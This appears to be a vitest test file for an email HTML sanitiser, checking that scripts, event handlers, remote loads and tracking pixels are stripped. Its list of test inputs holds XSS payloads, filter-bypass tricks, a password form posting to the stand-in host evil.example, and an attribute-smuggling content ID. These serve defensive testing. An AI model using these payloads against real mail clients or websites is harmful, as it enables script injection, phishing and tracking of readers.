import { expect, test } from 'vitest'
import { contentIdsIn, picturesIn, safeHtml, textOfMail } from './safe-html.ts'

/** Ways in which mail has run code, or told its sender that it was read. */
const hostile = [
  '<script>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  '<svg onload=alert(1)><animate onbegin=alert(1)></svg>',
  '<svg><script>alert(1)</script></svg>',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
  '<a href="javascript:alert(1)">x</a>',
  '<a href="&#106;avascript:alert(1)">x</a>',
  '<a href="java\tscript:alert(1)">x</a>',
  '<a href="data:text/html,<script>alert(1)</script>">x</a>',
  '<a href="vbscript:msgbox(1)">x</a>',
  '<iframe src="https://evil.example"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<object data="evil.swf"></object><embed src="evil.swf">',
  '<form action="https://evil.example"><input name=password><button>Go</button></form>',
  '<link rel=stylesheet href="https://evil.example/a.css">',
  '<style>@import "https://evil.example/a.css"; body{background:url(https://evil.example)}</style>',
  '<div style="background:url(https://evil.example/a.png);position:fixed;inset:0">x</div>',
  '<table background="https://evil.example/a.png"><tr><td background="https://evil.example/b.png">x</td></tr></table>',
  '<video poster="https://evil.example/a.png" src="https://evil.example/v"></video><audio src="https://evil.example/a">',
  '<img srcset="https://evil.example/a.png 1x" src="https://evil.example/b.png" width="1" height="1">',
  '<picture><source srcset="https://evil.example/a.png"><img src="https://evil.example/b.png"></picture>',
  '<base href="https://evil.example/"><a href="/path">x</a>',
  '<meta http-equiv=refresh content="0;url=https://evil.example">',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
  '<template><script>alert(1)</script></template>',
  '<details open ontoggle=alert(1)>x</details>',
  '<input autofocus onfocus=alert(1)>',
  '<p id="root" class="mantine-Modal-root" data-autofocus>x</p>',
  '<!--[if gte mso 9]><script>alert(1)</script><![endif]-->',
  '<body onload=alert(1)>x</body>',
  '<img src="//evil.example/a.png">',
  '<a href="https://good.example" onclick="alert(1)" target="_self" rel="opener">x</a>',
  '<textarea></textarea><title></title><plaintext>',
]

test.each(hostile)('%s', (html) => {
  const safe = safeHtml(`<p>Before</p>${html}<p>After</p>`) ?? ''
  expect(safe).toContain('Before')
  expect(safe).not.toMatch(
    /<(script|style|iframe|object|embed|form|input|button|link|meta|base|svg|math|video|audio|source)/i,
  )
  expect(safe).not.toMatch(/<[^>]*\son\w+=/i)
  expect(safe).not.toMatch(/(javascript|vbscript|data):/i)
  expect(safe).not.toMatch(/<[^>]*\s(src|srcset|style|background|poster|action|id|class)=/i)
})

test('links say where they lead, and open elsewhere without a referrer', () => {
  expect(safeHtml('<a href="https://evil.example/login">https://bank.example</a>')).toBe(
    '<a href="https://evil.example/login" rel="noopener noreferrer nofollow" target="_blank" data-host="evil.example">https://bank.example</a>',
  )
})

test('pictures keep their address where no browser loads it; those of a pixel are dropped', () => {
  const safe =
    safeHtml('<img src="https://a.example/1.png?x=1&amp;y=2" alt="Logo"><img src="https://t.example" width=1>') ?? ''
  expect(safe).toBe('<img alt="Logo" data-src="https://a.example/1.png?x=1&amp;y=2" />')
  expect(picturesIn(safe)).toEqual(['https://a.example/1.png?x=1&y=2'])
})

test('pictures of the message itself keep the name of their part, decoded, whatever their size', () => {
  const safe =
    safeHtml(
      '<img src="cid:a%40x&quot;onerror=alert(1)" width=1><img src="CID:b"><img src="cid:"><img src="cid:a b"><img src="cid:%">',
    ) ?? ''
  expect(safe).toBe(
    '<img alt="" data-cid="a@x&quot;onerror=alert(1)" width="1" /><img alt="" data-cid="b" /><img alt="" data-cid="%" />',
  )
  expect(contentIdsIn(safe)).toEqual(['a@x"onerror=alert(1)', 'b', '%'])
  expect(contentIdsIn('<p>data-cid="c"</p><a href="data-cid=">x</a>')).toEqual([])
})

test('what mail programs quote can be told from the rest', () => {
  expect(safeHtml('<p>Yes</p><div class="gmail_quote">Before</div>')).toBe('<p>Yes</p><blockquote>Before</blockquote>')
})

test('nesting and length without end is not shown, and quickly so', () => {
  const begin = performance.now()
  expect(safeHtml('<div>'.repeat(50_000))).toBeNull()
  expect(safeHtml('a'.repeat(600_000))).toBeNull()
  expect(performance.now() - begin).toBeLessThan(500)
})

test('the text of a message that has only HTML', () => {
  expect(textOfMail(safeHtml('<p>One &amp; two</p><ul><li>three</li></ul><style>x</style>') ?? '')).toBe(
    'One & two\nthree',
  )
})
